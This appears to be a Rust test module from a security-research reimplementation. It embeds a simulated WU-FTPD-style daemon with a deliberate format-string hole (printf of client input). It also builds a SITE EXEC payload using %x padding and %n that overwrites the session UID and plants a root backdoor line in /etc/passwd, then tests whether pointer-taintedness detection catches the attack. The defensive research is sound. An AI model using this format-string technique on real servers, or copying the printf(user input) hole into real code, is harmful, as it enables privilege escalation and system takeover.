//! A WU-FTPD-style FTP daemon with the *Site Exec Command Format String
//! Vulnerability* (BID-1387), reproducing the paper's Table 2 experiment.
//!
//! The attack is the paper's **non-control-data** exploit: the `SITE EXEC`
//! argument is logged through `printf(cmd)` — a format string under client
//! control. The payload embeds the address of the server's `session_uid`
//! word and a `%n` directive; when the argument pointer has been marched
//! onto the embedded address, `%n` stores the output count through it,
//! corrupting the user's identity without touching any control data. A
//! corrupted (non-anonymous) UID lets the attacker `STOR /etc/passwd` and
//! plant a root backdoor account, as in the paper.
//!
//! Under pointer-taintedness detection, the `%n` store dereferences a
//! tainted word and raises the Table 2 alert (`sw …  $r=<uid address>`)
//! before any corruption happens.

use ptaint_asm::Image;
use ptaint_os::{NetSession, WorldConfig};

/// The FTP daemon. `__addr_pad` pushes `session_uid` deep enough into the
/// data segment that its address contains no zero bytes (a NUL would
/// truncate the format string — the same constraint real format-string
/// exploits deal with).
pub const SOURCE: &str = r#"
char __addr_pad[66560];         /* keep subsequent globals NUL-free */
int session_uid;                /* 1000 = anonymous/user; the attack target */
int logged_in;

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

void log_command(char *cmd) {
    /* BID-1387: the user-supplied string is the format argument. */
    printf(cmd);
    printf("\n");
}

void store_passwd(int s) {
    int fd;
    /* Only privileged (non-anonymous) sessions may replace /etc/passwd. */
    if (session_uid == 1000) {
        reply(s, "550 permission denied\r\n");
        return;
    }
    fd = open("/etc/passwd", 1);
    write(fd, "alice:x:0:0::/home/root:/bin/bash\n", 34);
    close(fd);
    reply(s, "226 transfer complete\r\n");
}

int handle(int s, char *cmd) {
    if (strncmp(cmd, "USER ", 5) == 0) {
        session_uid = 1000;
        reply(s, "331 Password required.\r\n");
        return 0;
    }
    if (strncmp(cmd, "PASS ", 5) == 0) {
        logged_in = 1;
        reply(s, "230 User logged in.\r\n");
        return 0;
    }
    if (strncmp(cmd, "SITE EXEC ", 10) == 0) {
        log_command(cmd + 10);
        reply(s, "200 site exec accepted\r\n");
        return 0;
    }
    if (strncmp(cmd, "STOR /etc/passwd", 16) == 0) {
        store_passwd(s);
        return 0;
    }
    if (strncmp(cmd, "QUIT", 4) == 0) {
        reply(s, "221 Goodbye.\r\n");
        return 1;
    }
    reply(s, "500 unknown command\r\n");
    return 0;
}

int main() {
    char line[256];             /* stack command buffer, as in WU-FTPD */
    int s;
    int c;
    int n;
    s = socket();
    bind(s, 21);
    listen(s);
    c = accept(s);
    reply(c, "220 FTP server (Version wu-2.6.0(1)) ready.\r\n");
    while (1) {
        n = recv(c, line, 255, 0);
        if (n <= 0) break;
        line[n] = 0;
        if (handle(c, line)) break;
    }
    close(c);
    return 0;
}
"#;

/// Builds the malicious `SITE EXEC` command for a given `%x` pad count:
/// `SITE EXEC ..<uid address>%x…%x%n` (two filler bytes keep the embedded
/// address word-aligned within the server's `line` buffer).
#[must_use]
pub fn site_exec_payload(uid_addr: u32, pad: usize) -> Vec<u8> {
    let mut cmd = b"SITE EXEC ".to_vec();
    cmd.extend_from_slice(b"..");
    cmd.extend_from_slice(&uid_addr.to_le_bytes());
    cmd.extend_from_slice("%x".repeat(pad).as_bytes());
    cmd.extend_from_slice(b"%n");
    cmd
}

/// Address of the attacked `session_uid` word.
///
/// # Panics
///
/// Panics if the image does not contain the symbol (wrong program).
#[must_use]
pub fn uid_address(image: &Image) -> u32 {
    image
        .symbol("session_uid")
        .expect("wu_ftpd defines session_uid")
}

/// The full attack session of Table 2: authenticate, fire the format
/// string, then attempt to replace `/etc/passwd` with a root backdoor.
#[must_use]
pub fn attack_world(image: &Image, pad: usize) -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"USER user1".to_vec(),
        b"PASS xxxxxxx".to_vec(),
        site_exec_payload(uid_address(image), pad),
        b"STOR /etc/passwd".to_vec(),
        b"QUIT".to_vec(),
    ]))
}

/// A benign FTP session (used for the false-positive check).
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"USER user1".to_vec(),
        b"PASS xxxxxxx".to_vec(),
        b"SITE EXEC ls -l".to_vec(),
        b"STOR /etc/passwd".to_vec(), // denied: anonymous uid
        b"QUIT".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::{calibrate_format_pad, run_app};
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn uid_word_sits_at_a_nul_free_address() {
        let image = image();
        let addr = uid_address(&image);
        assert!(
            addr.to_le_bytes().iter().all(|&b| b != 0),
            "session_uid at {addr:#x} must have no NUL bytes for the format payload"
        );
    }

    #[test]
    fn attack_detected_at_the_percent_n_store() {
        let image = image();
        let target = uid_address(&image);
        let pad = calibrate_format_pad(&image, |p| attack_world(&image, p), target, 48)
            .expect("a pad count must land ap on the embedded address");
        let out = run_app(
            &image,
            attack_world(&image, pad),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("detected");
        // Table 2's alert: a store-word through the tainted uid address.
        assert_eq!(alert.kind, AlertKind::DataPointer);
        assert_eq!(alert.pointer, target);
        assert!(alert.instr.to_string().starts_with("sw "));
        // The attack was stopped before the backdoor was planted.
        assert!(out.stdout_text().is_empty() || !out.stdout_text().contains("alice"));
    }

    #[test]
    fn attack_succeeds_without_protection_planting_backdoor() {
        let image = image();
        let target = uid_address(&image);
        let pad = calibrate_format_pad(&image, |p| attack_world(&image, p), target, 48).unwrap();
        let (mut cpu, mut os) = ptaint_os::load(
            &image,
            attack_world(&image, pad),
            DetectionPolicy::Off,
            ptaint_mem::HierarchyConfig::flat(),
        );
        let out = ptaint_os::run_to_exit(&mut cpu, &mut os, crate::apps::STEP_LIMIT);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        // The session transcript shows the privileged transfer was accepted…
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("226 transfer complete"), "{transcript}");
        // …and the backdoor account is in /etc/passwd.
        let passwd = os.file("/etc/passwd").expect("passwd written");
        assert!(passwd.starts_with(b"alice:x:0:0::/home/root:/bin/bash"));
    }

    #[test]
    fn benign_session_is_clean_and_permission_checked() {
        let image = image();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("220 FTP server"));
        assert!(transcript.contains("230 User logged in"));
        assert!(transcript.contains("550 permission denied"), "{transcript}");
    }
}
